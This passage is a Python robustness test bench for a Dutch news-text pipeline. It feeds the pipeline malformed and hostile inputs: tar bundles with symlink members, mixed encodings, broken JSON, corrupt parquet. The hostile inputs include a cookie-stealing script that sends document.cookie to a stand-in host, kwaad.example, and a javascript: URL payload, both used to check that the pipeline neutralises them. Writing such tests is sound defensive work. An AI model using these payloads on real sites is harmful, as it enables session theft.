        add_bytes(tar, "lock.json", lock_json({"x/model": lock_entry("x--model", files)}))
        add_bytes(tar, "x--model/config.json", b"{}")
    return judge_plain("bundle-lock-dotdot-names", import_bundle(ctx, bundle, store), REFUSED, [])


def case_bundle_link_member(ctx: Context) -> Outcome:
    """Bundles written by ``export`` hold regular files only; a link member is refused."""
    store = ctx.work / "store"
    bundle = ctx.work / "bundle.tar"
    with tarfile.open(bundle, "w") as tar:
        add_bytes(tar, "lock.json", lock_json({"x/model": lock_entry("x--model", {"config.json": b"{}"})}))
        add_bytes(tar, "x--model/config.json", b"{}")
        add_link(tar, "x--model/tokenizer.json", "config.json")
    run = import_bundle(ctx, bundle, store)
    problems = ["the link was unpacked into the store"] if (store / "x--model" / "tokenizer.json").is_symlink() else []
    return judge_plain("bundle-symlink-member", run, REFUSED, problems)


# ---------------------------------------------------------------------------------------------- 9: decoding


def case_decoding(ctx: Context) -> Outcome:
    folder = ctx.work / "texts"
    folder.mkdir()
    text = f"{DUTCH}\n\n{OPENINGS[0]} {BODY}"
    encodings = {
        "utf-8": "",
        "utf-8-sig": "",
        "cp1252": "",
        "latin-1": "",
        "utf-16-le": "\ufeff",
        "utf-16-be": "\ufeff",
    }
    for encoding, bom in encodings.items():
        (folder / f"{encoding}.txt").write_bytes((bom + text).encode(encoding))
    out = ctx.work / "out.jsonl"

    def dutch_intact(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        wrong = [r["id"] for r in records if not all(w in f"{r['title']} {r['text']}" for w in DUTCH_WORDS)]
        return [f"mangled: {', '.join(sorted(wrong))}"] if wrong else []

    return judge_records("decode-dutch-6-encodings", 6, cli(ctx, run_args([folder], out)), out, [0], dutch_intact)


def case_csv_bom(ctx: Context) -> Outcome:
    path = ctx.work / "dump.csv"
    rows = "".join(f'k{index},"{article(index)["text"]}"\n' for index in range(3))
    path.write_bytes(("\ufeffid,text\n" + rows).encode("utf-8"))
    out = ctx.work / "out.jsonl"

    def ids_kept(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        ids = sorted(record["id"] for record in records)
        return [] if ids == ["k0", "k1", "k2"] else [f"ids {ids[:3]}: the id column was lost"]

    return judge_records("csv-utf8-bom-id", 3, cli(ctx, run_args([path], out)), out, [0], ids_kept)


def case_csv_long_field(ctx: Context) -> Outcome:
    path = ctx.work / "dump.csv"
    words = (f"{OPENINGS[1]} {BODY} " * 700)[: 140_000 if ctx.sizes.quick else 200_000]
    path.write_text(f'id,text\nlang,"{words}"\nkort,"{article(0)["text"]}"\n', encoding="utf-8")
    out = ctx.work / "out.jsonl"

    def read_whole(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        return [] if not errors else [f"rejected: {errors[0]['reason'][:80]}"]

    return judge_records("csv-field-over-131072", 2, cli(ctx, run_args([path], out)), out, [0], read_whole)


# ---------------------------------------------------------------------------------------------- 10: smaller promises


def case_javascript_url(ctx: Context) -> Outcome:
    row = {**article(0), "url": "javascript:alert(document.domain)"}
    dump = write_jsonl(ctx.work / "dump.jsonl", [row])
    out = ctx.work / "out.jsonl"
    run = cli(ctx, run_args([dump], out))
    code = (
        "import json, re, sys\n"
        "from pipeline.document import Result\n"
        "html = Result.from_dict(json.loads(open(sys.argv[1], encoding='utf-8').readline()))._repr_html_()\n"
        "print('live' if re.search(r'href\\s*=\\s*[\"\\']?\\s*javascript:', html, re.I) else 'text')\n"
    )
    shown = python(ctx, code, str(out)) if out.exists() else None
    problems = problems_of(run, [0])
    if shown is None or shown.stdout.strip() != "text":
        problems.append("javascript: URL is a live link" if shown else "no output to display")
    return Outcome(
        "javascript-url-display", 1, 1 if out.exists() else 0, 0, run.rc, run.seconds, not problems, "; ".join(problems)
    )


def case_file_ids(ctx: Context) -> Outcome:
    folder = ctx.work / "pages"
    for name in ("a/x.txt", "b/x.txt", "x.txt"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(f"{OPENINGS[len(name) % 6]} {name}. {BODY}", encoding="utf-8")
    (folder / "x.html").write_text(article_page("Nieuws uit Zutphen"), encoding="utf-8")
    out = ctx.work / "out.jsonl"
    return judge_records("txt-html-ids-distinct", 4, cli(ctx, run_args([folder], out)), out, [0])


def case_empty_text(ctx: Context) -> Outcome:
    dump = write_jsonl(
        ctx.work / "dump.jsonl", [{"id": "leeg", "text": ""}, {"id": "spaties", "text": "   "}, article(0)]
    )
    out = ctx.work / "out.jsonl"

    def per_stage(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        empty = [r for r in records if r["id"] in ("leeg", "spaties")]
        if len(empty) != 2:
            return ["an empty text went to errors.jsonl" if errors else "an empty text is missing"]
        return [] if all(r["status"].get("clean", "").startswith("skipped") for r in empty) else ["no per-stage status"]

    return judge_records("empty-text-status", 3, cli(ctx, run_args([dump], out)), out, [0], per_stage)


def case_skip_duplicates(ctx: Context) -> Outcome:
    original = article(0)
    copies = [{**original, "id": f"kopie-{index}"} for index in range(2)]
    dump = write_jsonl(ctx.work / "dump.jsonl", [original, *copies])
    out = ctx.work / "out.jsonl"
    args = [arg for arg in run_args([dump], out, "--skip-duplicates") if arg != "-q"]

    def final_line(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        match = re.search(r"(\d+) articles, (\d+) ok", run.stderr)
        if match is None:
            return ["no final line"]
        return [] if match.group(2) == "1" else [f"final line says {match.group(2)} ok: skipped copies counted"]

    return judge_records("skip-duplicates-final-line", 3, cli(ctx, args), out, [0], final_line)


def case_pipeline_run_ids(ctx: Context) -> Outcome:
    code = (
        "from pipeline import Pipeline\n"
        "items = [{'title': 'geen tekst'}] * 5\n"
        "ids = [r.id for r in Pipeline('offline').run(items, batch_size=2)]\n"
        "print(len(set(ids)), len(ids))\n"
    )
    run = python(ctx, code)
    problems = [] if run.stdout.split() == ["5", "5"] else [f"distinct/total ids {run.stdout.split()}"]
    return judge_plain("pipeline-run-invalid-ids", run, [0], problems)


# ---------------------------------------------------------------------------------------------- 11: Ray


AUDIT_HOOK = '''"""Logs every connection a Python process attempts to a non-loopback address (bench.robustness)."""
import os
import sys

_LOG = os.environ.get("NLNEWS_CONNECT_LOG")


def _audit(event, args):
    if event not in ("socket.connect", "socket.sendto") or not _LOG:
        return
    address = args[1] if len(args) > 1 else None
    if not isinstance(address, tuple) or not address:
        return
    host = str(address[0])
    if host.startswith("127.") or host in ("::1", "localhost", "0.0.0.0", ""):
        return
    with open(_LOG, "a") as log:
        log.write(f"{os.getpid()} {event} {address}\\n")


sys.addaudithook(_audit)
'''


def case_ray_loopback(ctx: Context) -> Outcome:
    try:
        import ray  # noqa: F401
    except ImportError:
        return Outcome("ray-loopback-only", skipped=True, note="ray is not installed")
    hooks = ctx.work / "hooks"
    hooks.mkdir()
    (hooks / "sitecustomize.py").write_text(AUDIT_HOOK, encoding="utf-8")
    log = ctx.work / "connections.log"
    env = {key: value for key, value in BASE_ENV.items() if key != "RAY_USAGE_STATS_ENABLED"}
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(hooks), env.get("PYTHONPATH", "")]))
    env["NLNEWS_CONNECT_LOG"] = str(log)
    dump = write_jsonl(ctx.work / "dump.jsonl", articles(5))
    out = ctx.work / "out.jsonl"
    run = cli(ctx, run_args([dump], out, "--engine", "ray", "--workers", "1"), env)

    def loopback_only(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        attempts = log.read_text().splitlines() if log.exists() else []
        return [f"{len(attempts)} non-loopback connections, e.g. {attempts[0].split(' ', 2)[2]}"] if attempts else []

    return judge_records("ray-loopback-only", 5, run, out, [0], loopback_only)


# ---------------------------------------------------------------------------------------------- already holding


def case_broken_json(ctx: Context) -> Outcome:
    broken = ['{"text": "afgebroken', "{text: 1}", "}{", '{"id": "x",, "text": "y"}', '{"text": "a"} extra']
    dump = write_jsonl(ctx.work / "dump.jsonl", [*articles(10), *broken, *articles(10, "b")])
    out = ctx.work / "out.jsonl"
    return judge_records("broken-json-lines", 25, cli(ctx, run_args([dump], out)), out, [1])


def case_non_objects(ctx: Context) -> Outcome:
    dump = write_jsonl(ctx.work / "dump.jsonl", [article(0), "[1, 2]", '"tekst"', "42", "null", "true", article(1)])
    out = ctx.work / "out.jsonl"
    return judge_records("non-object-json-lines", 7, cli(ctx, run_args([dump], out)), out, [1])


def case_nul_bytes(ctx: Context) -> Outcome:
    folder = ctx.work / "nul"
    folder.mkdir()
    write_jsonl(
        folder / "dump.jsonl", [{"id": "n", "text": "De trein\u0000 naar Venlo\u0000 rijdt weer. " + BODY}, article(0)]
    )
    (folder / "raw.txt").write_bytes(b"De bus\x00 naar Ede rijdt\x00 weer. " + BODY.encode())
    out = ctx.work / "out.jsonl"
    return judge_records("nul-bytes", 3, cli(ctx, run_args([folder], out)), out, [0, 1])


def case_random_bytes(ctx: Context) -> Outcome:
    path = ctx.work / "junk.txt"
    path.write_bytes(random.Random(1).randbytes(ctx.sizes.random_bytes))
    out = ctx.work / "out.jsonl"
    return judge_records("random-bytes", 1, cli(ctx, run_args([path], out)), out, [0, 1])


def case_big_record(ctx: Context) -> Outcome:
    size = ctx.sizes.big_record_chars
    dump = ctx.work / "dump.jsonl"
    with dump.open("w", encoding="utf-8") as stream:
        stream.write(json.dumps(article(0)) + "\n")
        stream.write('{"id": "groot", "text": "' + ("Utrecht bouwt. " * (size // 15 + 1))[:size] + '"}\n')
        stream.write(json.dumps(article(1)) + "\n")
    out = ctx.work / "out.jsonl"
    name = f"record-{size // 1_000_000}-mb"
    return judge_records(name, 3, cli(ctx, run_args([dump], out)), out, [1])


def case_many_words(ctx: Context) -> Outcome:
    vocabulary = " ".join(f"{OPENINGS[i % 6]} {BODY}" for i in range(6)).split()
    words = [vocabulary[i % len(vocabulary)] for i in range(ctx.sizes.words)]
    dump = write_jsonl(ctx.work / "dump.jsonl", [{"id": "lang", "text": " ".join(words)}, article(0)])
    out = ctx.work / "out.jsonl"
    return judge_records(f"article-{ctx.sizes.words // 1000}k-words", 2, cli(ctx, run_args([dump], out)), out, [0, 1])


def case_hostile_html(ctx: Context) -> Outcome:
    script = "<script>function steel(){document.location='https://kwaad.example/'+document.cookie}</script>" * 50
    page = article_page("Nieuws uit Zwolle", extra_head=script, extra_attribute=f'data-x="{"a" * 1_000_000}"')
    path = ctx.work / "page.html"
    path.write_text(page.replace("</article>", script + "</article>"), encoding="utf-8")
    out = ctx.work / "out.jsonl"

    def no_script(records: list[dict[str, Any]], errors: list[dict[str, Any]], run: Run) -> list[str]:
        return ["script text in the output"] if any("steel" in r["text"] for r in records) else []

    return judge_records("html-scripts-huge-attribute", 1, cli(ctx, run_args([path], out)), out, [0], no_script)


def case_corrupt_parquet(ctx: Context) -> Outcome:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = ctx.work / "dump.parquet"
    pq.write_table(pa.Table.from_pylist(articles(200)), path, row_group_size=50)
    data = bytearray(path.read_bytes())
    middle = len(data) // 2
    data[middle : middle + 400] = random.Random(2).randbytes(400)
    path.write_bytes(bytes(data))
    out = ctx.work / "out.jsonl"
    return judge_cut("corrupt-parquet", cli(ctx, run_args([path], out)), out, path, 200)


# ---------------------------------------------------------------------------------------------- table


CASES: list[tuple[str, Callable[[Context], Outcome]]] = [
    *((name, poison_case(name, poison)) for name, poison in POISONS.items()),
    ("poison-then-resume", case_poison_resume),
    ("punctuation-runs-16k", case_punctuation_runs),
    ("angle-run-100k", case_angle_run),
    ("two-runs-one-file", lambda ctx: two_runs(ctx, "two-runs-one-file", sharded=False)),
    ("two-runs-one-folder", lambda ctx: two_runs(ctx, "two-runs-one-folder", sharded=True)),
    ("zst-cut-in-half", case_zst_cut),
    ("warc-cut-300-bytes", case_warc_cut),
    ("warc-valid-uncompressed", case_warc_valid),
    ("warc-garbage", case_warc_garbage),
    ("gz-truncated", case_gz_cut),
    ("kill9-parent", case_kill_parent),
    ("kill9-one-worker", case_kill_worker),
    ("sigterm", signal_case("sigterm", signal.SIGTERM, 143, group=False)),
    ("sigint", signal_case("sigint", signal.SIGINT, 130, group=True)),
    ("kill9-three-points-resume", case_kill_three_points),
    ("disk-full", case_disk_full),
    ("output-in-proc", case_unwritable),
    ("no-network-default-run", case_no_network_run),
    ("no-network-strict", case_no_network_strict),
    ("no-network-models-pull", case_no_network_pull),
    ("bundle-pathmax-symlinks", case_bundle_path_max),
    ("bundle-decompression-bomb", case_bundle_bomb),
    ("bundle-lock-path-hijack", case_bundle_lock_hijack),
    ("bundle-lock-dotdot-names", case_bundle_lock_traversal),
    ("bundle-symlink-member", case_bundle_link_member),
    ("decode-dutch-6-encodings", case_decoding),
    ("csv-utf8-bom-id", case_csv_bom),
    ("csv-field-over-131072", case_csv_long_field),
    ("javascript-url-display", case_javascript_url),
    ("txt-html-ids-distinct", case_file_ids),
    ("empty-text-status", case_empty_text),
    ("skip-duplicates-final-line", case_skip_duplicates),
    ("pipeline-run-invalid-ids", case_pipeline_run_ids),
    ("ray-loopback-only", case_ray_loopback),
    ("broken-json-lines", case_broken_json),
    ("non-object-json-lines", case_non_objects),
    ("nul-bytes", case_nul_bytes),
    ("random-bytes", case_random_bytes),
    ("record-50-mb", case_big_record),
    ("article-200k-words", case_many_words),
    ("html-scripts-huge-attribute", case_hostile_html),
    ("corrupt-parquet", case_corrupt_parquet),
]


def run_case(name: str, case: Callable[[Context], Outcome], work: Path, sizes: Sizes, timeout: float) -> Outcome:
    """One case in its own folder; a case that itself breaks is a failed row, never the end of the bench."""
    folder = work / name
    folder.mkdir()
    ctx = Context(folder, sizes, timeout)
    began = time.perf_counter()
    try:
        outcome = case(ctx)
    except Exception as error:  # noqa: BLE001 - the bench reports a broken case and goes on
        outcome = Outcome(name, note=f"bench error: {type(error).__name__}: {error}"[:160])
    finally:
        for process in ctx.started:  # the session outlives a killed parent: orphaned workers go with it
            kill_session(process.pid)
            process.wait()
    outcome.name = name
    outcome.seconds = outcome.seconds or time.perf_counter() - began
    return outcome


def row(outcome: Outcome) -> str:
    records_in = "-" if outcome.records_in is None else str(outcome.records_in)
    out = "-" if outcome.records_out is None else f"{outcome.records_out}+{outcome.error_lines}"
    result = "skip" if outcome.skipped else "pass" if outcome.passed else "FAIL"
    exit_code = "-" if outcome.exit_code is None else str(outcome.exit_code)
    return f"{outcome.name:<30} {records_in:>6} {out:>9} {exit_code:>7} {outcome.seconds:>8.1f}  {result:<4}  {outcome.note}"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--quick", action="store_true", help="smaller inputs (same cases)")
    parser.add_argument("--only", default="", help="comma-separated words; run the cases whose name contains one")
    parser.add_argument("--timeout", type=float, default=None, help="seconds per CLI run (default 240, quick 120)")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder and print its path")
    args = parser.parse_args()
    sizes = Sizes(args.quick)
    timeout = args.timeout or (120.0 if args.quick else 240.0)
    words = [word for word in args.only.split(",") if word]
    chosen = [(name, case) for name, case in CASES if not words or any(word in name for word in words)]
    work = Path(tempfile.mkdtemp(prefix="nlnews-robustness-"))
    print(f"{'case':<30} {'in':>6} {'out+err':>9} {'exit':>7} {'seconds':>8}  result")
    outcomes = []
    try:
        for name, case in chosen:
            outcome = run_case(name, case, work, sizes, timeout)
            outcomes.append(outcome)
            print(row(outcome), flush=True)
    finally:
        if args.keep:
            print(f"inputs and outputs kept in {work}")
        else:
            shutil.rmtree(work, ignore_errors=True)
    judged = [outcome for outcome in outcomes if not outcome.skipped]
    passed = sum(outcome.passed for outcome in judged)
    lost = sum(outcome.lost for outcome in judged)
    print(f"robustness: {passed} of {len(judged)} cases pass; records lost: {lost}")


if __name__ == "__main__":
    main()
